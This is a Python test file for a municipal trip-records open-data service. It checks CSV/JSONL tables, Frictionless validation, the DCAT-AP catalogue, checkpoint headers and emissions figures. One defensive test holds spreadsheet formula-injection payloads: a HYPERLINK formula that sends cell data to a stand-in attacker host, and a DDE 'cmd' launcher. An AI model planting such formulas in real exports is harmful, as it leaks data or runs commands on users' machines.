"""Open data as portals and analysts take it: validated by Frictionless, harvested as DCAT-AP."""

import csv
import io
import json
import re
import uuid
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from urllib.parse import urlsplit

import frictionless
import httpx
import pytest
from rdflib import Graph, Namespace
from rdflib.namespace import DCTERMS, RDF
from sqlmodel import Session

from notifier.ingest.models import VerifiedTree
from notifier.testing import Site, event, life, serve, snapshot

# What this module checks is the same on every database; it runs on SQLite.
pytestmark = pytest.mark.backends("sqlite")

DCAT = Namespace("http://www.w3.org/ns/dcat#")
BASE = "https://trips.example.org"
TRIP, OTHER = str(uuid.UUID(int=21)), str(uuid.UUID(int=22))
TOKYO, ELSEWHERE = str(uuid.UUID(int=23)), str(uuid.UUID(int=24))
EMISSIONS = [
    "flight_km",
    "co2e_kg_per_traveller",
    "co2e_kg",
    "co2e_kg_per_traveller_day",
    "co2e_at_capital",
    "co2e_unlocated",
]
TABLE_NAMES = ["trips", "costs", "outcomes", "followups", "signals"]
CHECKPOINT = "periplus.test/ledger\n7\nqvT5OmbGJm4Lw2qOWi5eZFCC7n3m4h4L9zbF2Xf2J3A=\n\n— x sig\n"


@pytest.fixture
def site(database_url: str) -> Iterator[Site]:
    for running in serve(database_url):
        running.feed(life(TRIP, "MVD-2026-0021"))
        other = snapshot("MVD-2026-0022", departure=date(2026, 9, 1), department="Culture")
        running.feed([event("trip.approved", OTHER, {"trip": other})])
        with Session(running.app.state.engine) as session:
            session.add(
                VerifiedTree(size=7, edge=b"", checkpoint=CHECKPOINT, verified_at=datetime.now(UTC))
            )
            session.commit()
        yield running


@pytest.fixture
def flying(database_url: str) -> Iterator[Site]:
    """A city whose location is set: one trip flies far for its days, one to an unknown town."""
    for running in serve(database_url, city_location="Montevideo, UY"):
        running.feed(life(TRIP, "MVD-2026-0021"))
        tokyo = snapshot("MVD-2026-0023", days=2, size=1, country="JP", city="Tokyo")
        elsewhere = snapshot("MVD-2026-0024", days=5, size=3, country="PT", city="Vila Nenhuma")
        running.feed(
            [
                event("trip.approved", TOKYO, {"trip": tokyo}),
                event("trip.approved", ELSEWHERE, {"trip": elsewhere}),
            ]
        )
        yield running


def local(url: str, site: Site) -> str:
    """A public URL of the data, asked of the server under test."""
    return site.url + urlsplit(url).path


def table(site: Site, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(httpx.get(f"{site.url}/data/{name}.csv").text)))


def _validates(site: Site, tmp_path: Path) -> None:
    """Frictionless finds the package and every table as published valid."""
    package = httpx.get(f"{site.url}/data/datapackage.json").json()
    names = [resource["name"] for resource in package["resources"]]
    assert names == TABLE_NAMES
    for resource in package["resources"]:
        assert resource["path"] == f"{BASE}/data/{resource['name']}.csv"
        answer = httpx.get(local(resource["path"], site))
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        (tmp_path / f"{resource['name']}.csv").write_bytes(answer.content)
        resource["path"] = f"{resource['name']}.csv"
    (tmp_path / "datapackage.json").write_text(json.dumps(package))
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_the_data_package_validates_as_published(site: Site, tmp_path: Path) -> None:
    assert httpx.get(f"{site.url}/data/datapackage.json").json()["periplus:checkpoint"]["size"] == 7
    _validates(site, tmp_path)


def test_with_the_estimated_emissions_it_still_validates(flying: Site, tmp_path: Path) -> None:
    trips = table(flying, "trips")
    assert all(row["co2e_kg"] for row in trips)  # every trip estimated, so every column typed
    _validates(flying, tmp_path)


def test_the_tables_hold_what_the_entries_state(site: Site) -> None:
    trips = {row["trip_id"]: row for row in table(site, "trips")}
    assert set(trips) == {TRIP, OTHER}
    done = trips[TRIP]
    assert (done["reference"], done["status"], done["report_filed_on"]) == (
        "MVD-2026-0021",
        "reported",
        "2026-03-25",
    )
    assert done["page"] == f"{BASE}/trips/{TRIP}"
    total, city, others = (done[k] for k in ("budget_total", "city_share", "paid_by_others"))
    assert float(total) == float(city) + float(others)
    assert trips[OTHER]["status"] == "approved"
    assert trips[OTHER]["report_filed_on"] == ""
    # Without the city's location nothing is estimated, and nothing is judged by it.
    assert {row[name] for row in trips.values() for name in EMISSIONS} == {""}
    costs = table(site, "costs")
    assert {row["stage"] for row in costs if row["trip_id"] == TRIP} == {"planned", "actual"}
    assert not [row for row in costs if row["trip_id"] == OTHER and row["stage"] == "actual"]
    outcomes = {(r["trip_id"], r["outcome_id"]): r["achieved"] for r in table(site, "outcomes")}
    assert outcomes[(TRIP, "o1")] == "yes"
    assert outcomes[(TRIP, "o2")] == "partly"
    followups = {
        r["followup_id"]: r["status"] for r in table(site, "followups") if r["trip_id"] == TRIP
    }
    assert followups == {"f1": "open", "f2": "done"}
    signals = table(site, "signals")
    assert {r["trip_id"] for r in signals} == {TRIP, OTHER}
    assert {r["status"] for r in signals} <= {"pass", "warning", "pending"}
    assert "emissions" not in {r["signal"] for r in signals}


def _number(text: str) -> int:
    return int(text.replace(",", ""))


def test_the_estimated_emissions_and_every_signal_are_what_each_page_shows(flying: Site) -> None:
    trips = {row["trip_id"]: row for row in table(flying, "trips")}
    signals = table(flying, "signals")
    for trip_id, row in trips.items():
        page = httpx.get(f"{flying.url}/trips/{trip_id}", params={"lang": "en"}).text
        said = re.search(
            r"About ([\d,]+) kg CO₂e for the flights of \d+ travellers?: ([\d,]+) kg each, "
            r"([\d,]+) kg per traveller-day",
            page,
        )
        assert said is not None
        figures = ("co2e_kg", "co2e_kg_per_traveller", "co2e_kg_per_traveller_day")
        assert [_number(row[k]) for k in figures] == [_number(said[n]) for n in (1, 2, 3)]
        legs = [
            _number(km) for km in re.findall(r'<td class="num">([\d,]+)</td><td class="hide', page)
        ]
        assert len(legs) == 2  # out and back
        assert abs(_number(row["flight_km"]) - sum(legs)) <= len(legs) / 2
        shown = set(re.findall(r'<li data-signal="(\w+)" data-status="(\w+)">', page))
        assert {(r["signal"], r["status"]) for r in signals if r["trip_id"] == trip_id} == shown
    judged = {r["trip_id"]: r["status"] for r in signals if r["signal"] == "emissions"}
    assert judged == {TRIP: "pass", TOKYO: "warning", ELSEWHERE: "pass"}
    assert (trips[ELSEWHERE]["co2e_at_capital"], trips[TOKYO]["co2e_at_capital"]) == (
        "Vila Nenhuma",
        "",
    )
    assert int(trips[ELSEWHERE]["co2e_kg"]) == pytest.approx(
        3 * int(trips[ELSEWHERE]["co2e_kg_per_traveller"]), abs=2
    )


def test_json_lines_carry_the_same_rows(site: Site) -> None:
    for name in ("trips", "costs", "followups"):
        rows = list(csv.DictReader(io.StringIO(httpx.get(f"{site.url}/data/{name}.csv").text)))
        answer = httpx.get(f"{site.url}/data/{name}.jsonl")
        assert answer.headers["content-type"] == "application/jsonl"
        lines = [json.loads(line) for line in answer.text.splitlines()]
        assert len(lines) == len(rows)
        for line, row in zip(lines, rows, strict=True):
            assert list(line) == list(row)  # the same columns, in the same order
            assert {k: "" if v is None else str(v) for k, v in line.items()} == row


def test_each_download_names_the_checkpoint_it_reflects(site: Site) -> None:
    answer = httpx.get(f"{site.url}/data/trips.csv")
    assert answer.headers["periplus-checkpoint"] == (
        "origin=periplus.test/ledger; size=7; root=qvT5OmbGJm4Lw2qOWi5eZFCC7n3m4h4L9zbF2Xf2J3A="
    )
    assert 'filename="trips-7.csv"' in answer.headers["content-disposition"]
    again = httpx.get(
        f"{site.url}/data/trips.csv", headers={"If-None-Match": answer.headers["etag"]}
    )
    assert (again.status_code, again.content) == (304, b"")
    site.feed([event("trip.cancelled", OTHER, {"reference": "MVD-2026-0022", "reason": "x"})])
    with Session(site.app.state.engine) as session:
        tree = session.get(VerifiedTree, 1)
        assert tree is not None
        tree.size, tree.checkpoint = 8, CHECKPOINT.replace("\n7\n", "\n8\n")
        session.add(tree)
        session.commit()
    changed = httpx.get(
        f"{site.url}/data/trips.csv", headers={"If-None-Match": answer.headers["etag"]}
    )
    assert changed.status_code == 200
    assert "cancelled" in changed.text


# rdflib's own JSON-LD parser still builds on its deprecated ConjunctiveGraph.
@pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated:DeprecationWarning")
def test_the_catalogue_is_dcat_ap_that_a_harvester_reads(site: Site) -> None:
    answer = httpx.get(f"{site.url}/data/catalog.jsonld")
    assert answer.headers["content-type"] == "application/ld+json"
    graph = Graph().parse(data=answer.text, format="json-ld")
    [catalog] = graph.subjects(RDF.type, DCAT.Catalog)
    assert graph.value(catalog, DCTERMS.title) is not None
    assert graph.value(catalog, DCTERMS.publisher) is not None
    datasets = list(graph.objects(catalog, DCAT.dataset))
    assert len(datasets) == 5
    for dataset in datasets:
        assert (dataset, RDF.type, DCAT.Dataset) in graph
        assert graph.value(dataset, DCTERMS.description) is not None
        distributions = list(graph.objects(dataset, DCAT.distribution))
        assert len(distributions) == 2
        for distribution in distributions:
            url = str(graph.value(distribution, DCAT.downloadURL))
            assert url.startswith(f"{BASE}/data/")
            assert httpx.get(local(url, site)).status_code == 200
            assert graph.value(distribution, DCAT.mediaType) is not None


def test_an_unknown_table_is_a_problem(site: Site) -> None:
    for path in ("/data/nothing.csv", "/data/trips.xlsx"):
        answer = httpx.get(f"{site.url}{path}")
        assert answer.status_code in (404, 422)
        assert answer.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize("lang", ["en", "es", "fr", "pt"])
def test_every_page_offers_the_data_with_schema_org_dataset_markup(site: Site, lang: str) -> None:
    page = httpx.get(f"{site.url}/?lang={lang}").text
    [dataset] = re.findall(
        r'<span class="links" itemscope itemtype="https://schema.org/Dataset">(.*?)</span></div>',
        page,
        re.S,
    )
    assert 'itemprop="license" href="https://creativecommons.org/licenses/by/4.0/"' in dataset
    downloads = re.findall(r'itemprop="contentUrl" href="([^"]+)"', dataset)
    assert downloads == [f"/data/{name}.csv" for name in TABLE_NAMES]
    for path in downloads:
        assert httpx.get(f"{site.url}{path}").status_code == 200
    assert 'href="/data/catalog.jsonld"' in page


def test_text_a_spreadsheet_would_run_is_written_inert_in_csv(database_url: str) -> None:
    """A city system (or whoever holds its key) can publish any text; opened in a
    spreadsheet, a CSV cell that starts like a formula must not run."""
    trip = str(uuid.UUID(int=25))
    payload = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    risky = snapshot(
        "MVD-2026-0025", city="+Quito", title=payload, purpose="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    for running in serve(database_url):
        running.feed([event("trip.approved", trip, {"trip": risky})])
        [row] = table(running, "trips")
        jsonl = httpx.get(f"{running.url}/data/trips.jsonl").text
        [line] = [json.loads(x) for x in jsonl.splitlines()]
        assert row["title"] == "'" + payload
        assert row["purpose"].startswith("'@SUM")
        assert line["title"] == payload  # the JSON Lines keep the exact text
        assert int(row["days_notice"]) == line["days_notice"]  # numbers stay numbers


def test_a_return_stated_before_the_departure_counts_no_days_and_still_validates(
    database_url: str, tmp_path: Path
) -> None:
    """The pages and the yearbook count no days for such a trip; the data says the same,
    as a missing value, rather than a negative count."""
    trip = str(uuid.UUID(int=26))
    odd = snapshot("MVD-2026-0026")
    odd["return_date"] = "2026-03-01"  # before its departure on 10 March
    for running in serve(database_url):
        running.feed([event("trip.approved", trip, {"trip": odd})])
        [row] = table(running, "trips")
        jsonl = httpx.get(f"{running.url}/data/trips.jsonl").text
        [line] = [json.loads(x) for x in jsonl.splitlines()]
        assert row["days_abroad"] == ""
        assert line["days_abroad"] is None
        _validates(running, tmp_path)
